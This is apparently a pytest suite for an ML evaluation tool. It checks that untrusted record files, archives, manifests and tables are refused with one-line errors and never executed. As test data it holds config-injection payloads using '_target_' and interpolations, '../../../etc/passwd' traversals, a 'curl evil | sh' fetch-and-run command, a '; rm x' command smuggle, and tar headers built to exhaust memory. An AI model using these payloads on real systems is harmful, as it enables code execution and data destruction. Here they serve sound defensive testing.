"""Records, archives and tables from elsewhere execute nothing, and are answered in one line."""

import copy
import io
import json
import tarfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from hashlib import sha256
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from omegaconf import OmegaConf
from rich.console import Console
from test_grid import cell
from test_report import reported
from test_store_command import files, said

from data.errors import InputError
from runners import replay, trace, untrusted
from runners.evaluate import save_records
from runners.evaluation.component import build
from runners.evaluation.records import PROVENANCE
from runners.evaluation.settings import Settings
from runners.evaluator import Evaluator
from runners.report import __main__ as report
from runners.store import __main__ as store_command
from runners.store.artifact import Artifact
from runners.store.manifest import Manifest
from runners.store.store import Store
from runners.validity.record_file import RecordFile
from scripts.bench_report import made_up

CELL = cell("attack=fgsm", "purifier=dip", "purifier.steps=3")
REQUEST = Manifest("runners.table", "ddip/table1", ("n=2",))


def settings_of(store: Path) -> Settings:
    return Settings(
        n=2, seed=0, split="evaluation", subset="random", chunk=2, store=str(store), device="cpu",
        tf32=False, workers=1, budget_hours=1.0, audit="off", draws=1,
    )  # fmt: skip


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> tuple[Path, Path]:
    """Return a store and the record file of CELL."""
    folder = tmp_path_factory.mktemp("made")
    grid = Evaluator(settings_of(folder / "store"), Console(file=io.StringIO()))
    (result,) = grid.evaluate([CELL], REQUEST)
    return folder / "store", save_records(result, folder / "records")


@pytest.fixture
def marker(tmp_path) -> Path:
    """Return a folder that exists only if planted text was executed."""
    return tmp_path / "executed"


def interpolation(marker: Path) -> str:
    return f"${{oc.create:{{_target_: os.mkdir, path: {marker}}}}}"


def call(marker: Path) -> dict[str, str]:
    return {"_target_": "os.mkdir", "path": str(marker)}


def test_the_planted_text_is_executed_where_nothing_refuses_it(marker):
    with pytest.raises(InputError):
        build({"_target_": "purifiers.jpeg.JPEG", "quality": interpolation(marker)})
    assert marker.is_dir(), "otherwise the tests below show nothing"


def places(data: Any, path: tuple = ()) -> Iterator[tuple]:
    """Yield the place of every value, at every depth."""
    pairs = data.items() if isinstance(data, dict) else enumerate(data) if isinstance(data, list) else ()
    for name, item in pairs:
        yield (*path, name)
        yield from places(item, (*path, name))


def edited(facts: dict[str, Any], place: tuple, edit: Callable[[Any, Any], None]) -> dict[str, Any]:
    facts = copy.deepcopy(facts)
    parent = facts
    for name in place[:-1]:
        parent = parent[name]
    edit(parent, place[-1])
    return facts


def put(value: Any) -> Callable[[Any, Any], None]:
    return lambda inside, name: inside.__setitem__(name, value)


def holding(of: RecordFile, facts: Any, **metadata: bytes) -> pa.Table:
    """Return the records with another provenance; NaN and lone surrogates are written as they are."""
    schema_metadata = {**of.records.schema.metadata, PROVENANCE: json.dumps(facts).encode()}
    schema_metadata |= {name.encode(): value for name, value in metadata.items()}
    return of.records.replace_schema_metadata(schema_metadata)


def written(of: RecordFile, facts: Any, path: Path, **metadata: bytes) -> Path:
    """Write a record file with another provenance, and return its path."""
    pq.write_table(holding(of, facts, **metadata), path)
    return path


def admitted(of: RecordFile, facts: Any) -> None:
    """Check a provenance as reading a file does, without the file."""
    untrusted.check_plain(facts, "provenance")
    RecordFile(of.path, of.records, facts)


def plants(marker: Path) -> dict[str, Callable[[Any, Any], None]]:
    """Return edits that plant everything that could be executed, by what it is."""
    return {
        "interpolation": put(interpolation(marker)),
        "in a text": put(f"a {interpolation(marker)} b"),
        "in a list": put([[interpolation(marker)]]),
        "as a key": put({interpolation(marker): 1}),
        "a function": put(call(marker)),
        "an imported name": put({"_target_": "runners.replay.Path"}),
        "a traversal": put({"_target_": "purifiers.jpeg.io.open", "file": str(marker), "mode": "w"}),
        "a target that is a list": put({"_target_": ["os.mkdir"]}),
        **{
            name: put({"_target_": "purifiers.jpeg.JPEG", name: [1]})
            for name in ("_partial_", "_args_", "_recursive_", "_convert_")
        },
    }


def test_a_record_is_refused_wherever_anything_is_planted(made, marker, tmp_path):
    record = RecordFile.read(made[1])
    every = list(places(record.provenance))
    assert len(every) > 150
    assert {len(place) for place in every} >= {1, 2, 3, 4, 5}
    for name, plant in plants(marker).items():
        for place in every:
            facts = json.loads(json.dumps(edited(record.provenance, place, plant)))
            with pytest.raises(InputError) as error:
                admitted(record, facts)
            assert "\n" not in str(error.value), (name, place)
    assert not marker.exists()


RUN = {  # the words that people type
    "replay": (replay.main, ()),
    "trace": (trace.main, ("images=1",)),
}


@pytest.mark.parametrize("what", RUN)
@pytest.mark.parametrize(
    ("place", "plant"),
    [
        (("configs", "purifier", "steps"), "interpolation"),
        (("configs", "purifier", "trace"), "a function"),
        (("configs", "victim", "weights"), "_args_"),
        (("names", "purifier"), "in a text"),
        (("settings", "store"), "interpolation"),
        (("weights", "victim", "trained"), "as a key"),
        (("command",), "in a text"),
        (("versions", "torch"), "interpolation"),
    ],
)
def test_commands_answer_in_one_line_and_execute_nothing(made, command, marker, tmp_path, what, place, plant):
    record, (main, arguments) = RecordFile.read(made[1]), RUN[what]
    facts = edited(record.provenance, place, plants(marker)[plant])
    path = written(record, facts, tmp_path / "planted.parquet")
    words = [str(path), f"store={made[0]}", f"traces={tmp_path}/traces", *arguments]
    code, _, err = command(
        main, what, *replay.words([w for w in words if what == "trace" or "traces" not in w])
    )
    assert code == 2, err
    assert len(err.splitlines()) == 1
    assert not marker.exists()


def test_text_in_the_files_other_metadata_is_refused(made, marker, tmp_path):
    record = RecordFile.read(made[1])
    path = written(
        record, record.provenance, tmp_path / "planted.parquet", note=interpolation(marker).encode()
    )
    with pytest.raises(InputError, match="metadata b'note': expected plain text, got an interpolation"):
        RecordFile.read(path)


EDITS: dict[str, Callable[[Any, Any], None]] = {
    "delete": lambda inside, name: inside.__delitem__(name),
    "null": put(None),
    "a text": put("x"),
    "a list": put([]),
    "an object": put({}),
    "a number": put(-7),
    "huge": put(10**40),
    "NaN": put(float("nan")),
    "a surrogate": put("\ud800"),
    "a path": put("../../../etc/passwd"),
}


class NotRunError(InputError):
    """An error that says that the edited record would be run, because nothing in it was refused."""


@pytest.mark.slow
def test_every_single_edit_of_a_record_is_answered_by_a_replay(made, tmp_path, monkeypatch):
    """Nested values are edited too. A replay stops before its first cell, where it would become slow."""

    def checked(grid: Evaluator, cells: list) -> None:
        grid.planner.check_parameters(cells)
        raise NotRunError("stopped")

    monkeypatch.setattr(Evaluator, "evaluate", checked)
    monkeypatch.setattr(replay, "ready_weights", lambda *args, **more: [])
    record, path = RecordFile.read(made[1]), tmp_path / "edited.parquet"
    config = {"record": str(path), "records": str(tmp_path), "store": str(made[0]), "data_dir": str(tmp_path)}
    config = OmegaConf.create({**config, "device": "cpu", "workers": 1})
    refusals = 0
    for name, edit in EDITS.items():
        for place in places(record.provenance):
            table = holding(record, edited(record.provenance, place, edit))
            monkeypatch.setattr(pq, "read_table", lambda path, table=table: table)
            with pytest.raises(InputError) as answer:
                replay.main(config)
            assert len(str(answer.value).splitlines()) == 1, (name, place)
            refusals += not isinstance(answer.value, NotRunError)
    assert refusals > 1000


@pytest.mark.parametrize(
    "raw", [b"[" * 10**5, b'{"a":' * 10**5, b'{"a": ' + b"9" * 5000 + b"}", b"\xff", b"", b"{}", b"[1]"]
)
def test_a_provenance_that_is_no_object_of_ours_is_one_line(made, tmp_path, raw):
    record = RecordFile.read(made[1])
    metadata = {**record.records.schema.metadata, PROVENANCE: raw}
    pq.write_table(record.records.replace_schema_metadata(metadata), tmp_path / "x.parquet")
    with pytest.raises(InputError, match=r"x\.parquet: provenance") as error:
        RecordFile.read(tmp_path / "x.parquet")
    assert len(str(error.value).splitlines()) == 1


@pytest.mark.parametrize("name", ["records", "store", "data_dir"])
def test_null_for_a_folder_is_one_line(command, name):
    code, _, err = command(replay.main, "replay", "record=x", f"{name}=null")
    assert (code, len(err.splitlines())) == (2, 1)
    assert name != "records" or "records: expected a folder, got None" in err


def artefact(folder: Path, made_from: dict, content: bytes, header: dict) -> tuple[str, bytes]:
    """Return a member of an archive: its name, and an artefact whose checksum is right."""
    store = Store(folder)
    store.put(Artifact.read(made_from), content)
    path = store.path(Artifact.read(made_from))
    head = json.loads(path.read_bytes().partition(b"\n")[0]) | header
    return str(path.relative_to(folder)), json.dumps(head).encode() + b"\n" + content


def archived(path: Path, *members: tuple[str, bytes], pax: dict[str, str] | None = None) -> Path:
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as archive:
        for name, content in members:
            member = tarfile.TarInfo(name)
            member.size, member.pax_headers = len(content), pax or {}
            archive.addfile(member, io.BytesIO(content))
    return path


DEEP: Any = {}
for _ in range(200):
    DEEP = {"a": DEEP}
PLAIN = {"version": 1, "request": {"module": "runners.table", "name": "t", "words": []}, "n": 1, "cells": {},
         "other": [], "seconds": {}}  # fmt: skip
MANIFESTS = {
    "no JSON": b"{",
    "a list": b"[]",
    "deep": b"[" * 10**5,
    "nothing": b'{"version": 1}',
    "cells": json.dumps(PLAIN | {"cells": {"a": 5}}).encode(),
    "three keys": json.dumps(PLAIN | {"cells": {"a": [["b", "c", "d"]]}}).encode(),
    "a path": json.dumps(PLAIN | {"other": ["../etc/passwd"]}).encode(),
    "NaN": json.dumps(PLAIN | {"seconds": {"a": float("nan")}}).encode(),
    "text": json.dumps(PLAIN | {"cells": {"${oc.env:HOME}": []}}).encode(),
    "another request": json.dumps(PLAIN).encode(),
}


@pytest.mark.parametrize("name", MANIFESTS)
def test_a_malformed_manifest_breaks_no_command_and_is_named(tmp_path, caplog, name):
    store = Store(tmp_path / "store")
    replace(REQUEST, n=2, cells={"cell": [["a", "b", "c", "d"]]}).write(store)
    theirs = Artifact("manifests", {"of": "theirs"})
    store.put(theirs, MANIFESTS[name])
    path = store.path(theirs)
    for main, *words in (
        (store_command.main, "list"),
        (store_command.main, "gc"),
        (store_command.main, "verify"),
        (store_command.main, "export", "ddip/table1", tmp_path / "a.tar"),
        (store_command.main, "status"),
    ):
        code, output = said(main, "--store", store.root, *words)
        assert code == (2 if "gc" in words else 0), output
        assert "gc" not in words or str(path) in output.replace("\n", ""), "gc would remove what it needs"
    assert str(path) in caplog.text
    member = f"manifests/{path.parent.name}/{path.name}", path.read_bytes()
    code, output = said(
        store_command.main, "--store", tmp_path / "other", "import", archived(tmp_path / "b.tar", member)
    )
    assert code == 2
    assert len(output.splitlines()) == 1
    assert not files(tmp_path / "other")


@pytest.mark.parametrize(
    ("content", "header", "expected"),
    [
        (b"x", {"made_by": {"commit": "${oc.env:HOME}"}}, "made_by.commit: expected plain text"),
        (b"x", {"made_by": DEEP}, "levels of nesting"),
        (b"x", {"made_by": float("nan")}, "expected a finite number"),
        (b"x", {"made_from": []}, "made_from: expected an object"),
        (b"x", {"made_by": {"_args_": []}}, "got the key _args_"),
        (b"x", {}, "cannot be worked with"),
        (None, {}, "expected records; they lack adversarial"),
    ],
    ids=["interpolation", "deep", "NaN", "no recipe", "key", "no Parquet", "other columns"],
)
def test_an_archive_is_read_before_it_is_kept(tmp_path, content, header, expected):
    parquet = io.BytesIO()
    pd.DataFrame({"a": [1]}).to_parquet(parquet)
    made_from = {"stage": "records", "of": "x"}
    member = artefact(tmp_path / "theirs", made_from, content or parquet.getvalue(), header)
    archive = archived(tmp_path / "a.tar", member)
    code, output = said(store_command.main, "--store", tmp_path / "store", "import", archive)
    assert code == 2
    assert expected in output
    assert len(output.splitlines()) == 1
    assert not files(tmp_path / "store")


@pytest.mark.parametrize(
    "pax", [{"GNU.sparse.map": "0,1", "GNU.sparse.size": str(12 * 2**30)}, {"size": "9" * 11}]
)
def test_an_archive_asks_for_no_more_memory_than_it_has_bytes(tmp_path, pax):
    archive = archived(tmp_path / "a.tar", ("records/ab/" + "ab" * 32, b"x"), pax=pax)
    code, output = said(store_command.main, "--store", tmp_path / "store", "import", archive)
    assert code == 2
    assert len(output.splitlines()) == 1


def test_what_an_imported_chunk_says_of_its_maker_reaches_no_record(made, tmp_path):
    store = Store(made[0])
    (entry,) = store.files("purified")
    path, raw = Path(entry.path), Path(entry.path).read_bytes()
    head, _, content = raw.partition(b"\n")
    facts = json.loads(head)
    facts["made_by"]["commit"] = interpolation(tmp_path / "executed")
    path.write_bytes(json.dumps(facts).encode() + b"\n" + content)
    try:
        with pytest.raises(InputError, match=r"made_by: commit: expected plain text, got an interpolation"):
            Evaluator(settings_of(made[0]), Console(file=io.StringIO())).evaluate([CELL])
    finally:
        path.write_bytes(raw)
    assert not (tmp_path / "executed").exists()


@pytest.fixture(scope="module")
def table(tmp_path_factory) -> Path:
    """Return a folder with a small table and its store."""
    folder = tmp_path_factory.mktemp("table")
    made_up(
        folder, np.random.default_rng(0).random((4, 3, 8, 8), dtype=np.float32), rows=1, columns=1, chunk=4
    )
    return folder


def changed_table(table: Path, folder: Path, **columns: str) -> Path:
    (folder / "tables").mkdir(exist_ok=True)
    for path in (table / "tables").iterdir():
        (folder / "tables" / path.name).write_bytes(path.read_bytes())
    csv = folder / "tables" / "ddip-table1.csv"
    frame = pd.read_csv(csv, keep_default_na=False).astype(object)
    for name, value in columns.items():
        frame.loc[0, name] = value
    frame.to_csv(csv, index=False)
    beside = csv.with_suffix(".json")  # someone who forges a table also forges its checksums
    facts = json.loads(beside.read_text())
    facts["files"][csv.name] = sha256(csv.read_bytes()).hexdigest()
    beside.write_text(json.dumps(facts))
    return folder


@pytest.mark.parametrize(
    ("columns", "beside", "expected"),
    [
        ({"row": "${oc.env:HOME}"}, None, "row: expected plain text, got an interpolation"),
        ({"note": "\x1b[2J"}, None, "note: expected printable text"),
        ({"record": "../../x"}, None, r"record: expected \[0-9a-f\]\{8\}"),
        ({"command": "curl evil | sh"}, None, "command: expected python -m runners"),
        ({"command": "python -m runners.table; rm x"}, None, "command: expected python -m runners"),
        ({"value": "x"}, None, "cannot be worked with"),
        ({}, {"title": "${oc.env:HOME}"}, "title: expected plain text"),
        ({}, {"title": []}, "title: expected str"),
        ({}, "[]", "expected an object"),
        ({}, "[" * 10**5, "expected JSON"),
        ({}, '{"a": NaN}', "finite number"),
    ],
)
def test_a_table_of_someone_else_is_text(table, tmp_path, columns, beside, expected):
    folder = changed_table(table, tmp_path, **columns)
    path = folder / "tables" / "ddip-table1.json"
    if isinstance(beside, dict):
        path.write_text(json.dumps(json.loads(path.read_text()) | beside))
    elif beside is not None:
        path.write_text(beside)
    with pytest.raises(InputError, match=expected):
        reported(folder, tmp_path / "out")
    assert not list((tmp_path / "out").glob("*.html"))


def test_labels_with_mathematics_and_folders_with_markup_are_text(table, tmp_path, capsys):
    folder = tmp_path / "a[/b]"
    folder.mkdir(parents=True)
    changed_table(table, folder, row=r"$\frac{$ [/b]")
    places = {name: f"{folder}/{name}" for name in ("tables", "store", "report", "traces")}
    report.main(OmegaConf.create({**places, "only": None, "images": 1}))
    assert "[/b]" in capsys.readouterr().out


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", None], ids=["empty", "cut", "no words"])
def test_a_trace_that_cannot_be_read_is_left_out_and_named(table, tmp_path, caplog, content):
    folder = changed_table(table, tmp_path, record="1a2b3c4d")
    (tmp_path / "traces").mkdir()
    path = tmp_path / "traces" / "1a2b3c4d.npz"
    if content is None:
        np.savez_compressed(path, told=np.array('{"ids": 5}'))
    else:
        path.write_bytes(content)
    reported(folder, tmp_path / "out", f"traces={tmp_path}/traces")
    assert (tmp_path / "out" / "ddip-table1.html").is_file()
    assert f"left out: {path}" in caplog.text


def test_a_key_that_leads_out_of_the_store_is_refused(tmp_path):
    store = Store(tmp_path)
    for stage in ("../x", "", "a/b"):
        with pytest.raises(InputError, match="expected the name of an artifact"):
            store.path(Artifact(stage, {}))
